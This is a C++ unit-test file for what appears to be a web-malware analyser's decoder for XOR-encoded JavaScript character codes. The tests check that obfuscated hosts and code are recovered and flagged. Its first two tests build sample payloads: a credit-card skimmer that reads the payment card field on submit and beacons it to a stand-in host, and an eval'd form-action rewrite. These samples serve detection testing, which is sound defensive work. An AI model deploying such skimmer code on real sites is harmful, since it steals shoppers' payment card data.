// XOR-ed character codes (js_xor.cc): a host or code kept as numbers or odd characters and
// rebuilt with a key is read back, through Normalize as the analysers see it; tables of numbers
// that are not text stay as they are.
#include "webroot/js_xor.h"

#include <gtest/gtest.h>

#include <string>

#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

std::string Codes(std::string_view s, std::string_view key) {
  std::string out;
  for (size_t i = 0; i < s.size(); ++i)
    out += (i ? "," : "") + std::to_string(static_cast<unsigned char>(s[i]) ^
                                           static_cast<unsigned char>(key[i % key.size()]));
  return out;
}

bool HasLayerWith(const NormalizedCode& n, std::string_view path_end, std::string_view text) {
  for (const CodeLayer& l : n.layers)
    if (l.path.ends_with(path_end) && l.text.find(text) != std::string::npos) return true;
  return false;
}

TEST(JsXor, AnAddressKeptAsNumbersIsReadWhereItIsUsed) {
  std::string js =
      "var k=0x2a,d=[" + Codes("https://collect.example/p.gif", "\x2a") +
      "],u='';for(var i=0;i<d.length;i++)u+=String.fromCharCode(d[i]^k);"
      "document.addEventListener('submit',function(){var n=document.querySelector("
      "'input[name=\"payment[cc_number]\"]').value;new Image().src=u+'?c='+btoa(n);});";
  NormalizedCode n = Normalize(js, CodeKind::kJs);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("'https://collect.example/p.gif'"), std::string::npos)
      << n.layers[0].text;
  int card = 0;
  for (const CodeTrait& t : n.traits)
    if (t.id == "js.card_exfil") card = std::max(card, t.strength);
  EXPECT_GE(card, 3);
}

TEST(JsXor, CodeUnderAStringKeyIsALayer) {
  std::string code = "document.forms[0].action='https://x.example/c';";
  std::string js = "var key='s3cr',p=[" + Codes(code, "s3cr") +
                   "],o='';for(var i=0;i<p.length;i++)o+=String.fromCharCode(p[i]^"
                   "key.charCodeAt(i%key.length));eval(o);";
  NormalizedCode n = Normalize(js, CodeKind::kJs);
  EXPECT_TRUE(HasLayerWith(n, ">xor", "https://x.example/c"));
}

TEST(JsXor, TablesThatAreNoTextStayAsTheyAre) {
  // A CRC table and a hash's XOR: the numbers decode to no text under any key in the code.
  std::string js =
      "var T=[0,1996959894,3993919788,2567524794,124634137,1886057615,3915621685,2657392035];"
      "function crc(s){var c=0^-1;for(var i=0;i<s.length;i++)c=(c>>>8)^T[(c^s.charCodeAt(i))&"
      "0xff];return(c^-1)>>>0;}var widths=[5,7,9,11,13,15,17,19,21];var h=widths[2]^0x5bd1e995;";
  NormalizedCode n = Normalize(js, CodeKind::kJs);
  for (const CodeLayer& l : n.layers) EXPECT_EQ(l.path.find(">xor"), std::string::npos);
  LexResult lr = LexJs(js, LexLimits());
  EXPECT_TRUE(DecodeXorCharCodes(lr.tokens, 1 << 20).empty());
}

TEST(JsXor, NoXorNoWorkAndBoundedOutput) {
  LexResult plain = LexJs("var a=[104,116,116,112,115,58,47,47,120,46,101];", LexLimits());
  EXPECT_TRUE(DecodeXorCharCodes(plain.tokens, 1 << 20).empty());
  std::string big = "var k=1,d=[";
  for (int i = 0; i < 100000; ++i) big += std::to_string('a' ^ 1) + ",";
  big += "59];x(d[0]^k);var e=[" + Codes("https://collect.example/p.gif", "\x01") + "];";
  LexResult lr = LexJs(big, LexLimits());
  // The output cap holds whatever the candidates are.
  size_t total = 0;
  for (const XorDecoded& x : DecodeXorCharCodes(lr.tokens, 64)) total += x.text.size();
  EXPECT_LE(total, 64u);
}

}  // namespace
}  // namespace tq::webroot
